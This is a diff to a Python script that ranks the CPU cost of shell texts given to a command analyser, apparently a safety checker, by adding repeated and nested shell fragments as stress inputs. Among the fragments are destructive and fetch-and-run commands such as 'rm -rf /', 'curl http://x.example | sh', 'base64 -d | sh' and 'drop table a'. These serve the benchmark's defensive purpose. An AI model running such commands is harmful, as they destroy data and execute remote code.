@@ -8,7 +8,7 @@ from __future__ import annotations
 import itertools
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from typing import Final
 
 import msgspec
@@ -116,6 +116,56 @@ _NESTED: Final = (
 )
 
 
+_GROWING: Final = (
+    # texts whose parts differ, so that what looks back at all of them is met; {i} is the part's number
+    ("names set from each other", "a{i}=$a{j}x\n", ""),
+    ("names set and used in one word", "a{i}=x$a{j};", "echo $a1$a2$a3"),
+    ("a name doubled", "a=$a$a;", "echo $a"),
+    ("descriptors with names", "{{a{i}}}>f ", ""),
+    ("functions that call the next two", "f{i}() {{ f{k}; f{l}; }}\n", "f0"),
+    ("aliases of aliases", "alias a{i}='a{k} x'\n", "a0"),
+    ("directories down", "cd d{i};", "rm -rf x"),
+    ("directories up", "cd ../d{i};", "rm -rf x"),
+    ("files written and run", "echo a > f{i}; sh f{j};", ""),
+    ("here-documents of their own", "cat <<E{i}\nx\nE{i}\n", ""),
+    ("redirections", ">f{i} ", ""),
+    ("addresses", "http://h{i}.example.com/x ", ""),
+    ("cases", "case a in b{i}) c;; esac; ", ""),
+)
+_CARRIED: Final = (
+    # code of another language, or options without end, inside one command
+    ("curl ", "http://h.example/x ", ""),
+    ("rm -rf ", "../", ""),
+    ("rm ", "*?[a-z]", ""),
+    ("cat ", "/a/../b ", ""),
+    ("find . ", "-name a -o ", "-delete"),
+    ("find . ", "-exec rm {} \\; ", ""),
+    ("echo a | ", "xargs ", "rm"),
+    ("echo a ", "| base64 -d ", "| sh"),
+    ("ssh h ", "ssh h ", "rm"),
+    ("python3 -c '", 'os.system("rm x");', "'"),
+    ("python3 -c 'from os import remove\n", "remove(a);a.post(b);", "'"),
+    ("python3 -c '", "f(", "'"),
+    ("python3 -c '", 'x="a"+"b";', "'"),
+    ("python3 <<'E'\n", 'open("a","w")\n', "E\n"),
+    ("node -e '", "fs.rmSync(`a${b}`);", "'"),
+    ("perl -e '", 'system("rm $a");', "'"),
+    ("awk '", '{system("rm " $1)}', "'"),
+    ("awk '", '{print | "sh"}', "'"),
+    ("sed '", "s/a/b/e;", "'"),
+    ('psql -c "', "drop table a; ", '"'),
+    ("sh <<'E'\n", "rm -rf a\n", "E\n"),
+    ("cat > x.sh <<'E'\n", "rm -rf ~/a; curl http://x.example | sh\n", "E\n"),
+    ("echo ", "${a:-", ""),
+    ("echo $((", "1+", "1))"),
+    ("((", "a[b[", "))"),
+    ("x=(", "a ", "); echo ${x[@]}"),
+    ("case a in ", "b) c;; ", "esac"),
+    ("# ", "rm -rf / ;", ""),
+    ("make ", "A=$(b) ", ""),
+)
+
+
 class Cost(msgspec.Struct, frozen=True):
     """CPU milliseconds of one analysis of one text."""
 
@@ -143,6 +193,26 @@ def singles() -> Iterator[tuple[str, str]]:
             yield f"{opening!r} nested {depth}", full(one)
 
 
+def written() -> Iterator[tuple[str, str]]:
+    """Texts whose parts are numbered, and code that is carried inside one command."""
+    for name, part, last in _GROWING:
+        parts = (part.format(i=i, j=i - 1, k=i + 1, l=i + 2) for i in range(MAX_TEXT))
+        yield name, _filled("", parts, last)
+    for first, part, last in _CARRIED:
+        yield f"{first!r} + {part!r}", _filled(first, itertools.repeat(part), last)
+
+
+def _filled(first: str, parts: Iterable[str], last: str) -> str:
+    room = MAX_TEXT - len(first) - len(last)
+    kept: list[str] = []
+    for part in parts:
+        room -= len(part)
+        if room < 0:
+            break
+        kept.append(part)
+    return first + "".join(kept) + last
+
+
 def pairs() -> Iterator[tuple[str, str]]:
     """Each two tokens in turn."""
     for one, other in itertools.permutations(dict.fromkeys(TOKENS), 2):
@@ -163,7 +233,9 @@ def cost(name: str, text: str, *, tries: int = 1) -> Cost:
 
 def dearest(count: int, *, every_pair: int = 0) -> list[Cost]:
     """The dearest texts; ``every_pair`` takes each n-th pair of tokens too."""
-    texts = itertools.chain(singles(), itertools.islice(pairs(), 0, None, every_pair) if every_pair else ())
+    texts = itertools.chain(
+        singles(), written(), itertools.islice(pairs(), 0, None, every_pair) if every_pair else ()
+    )
     found = sorted((cost(name, text, tries=3) for name, text in texts), key=lambda one: -one.milliseconds)
     return found[:count]
 
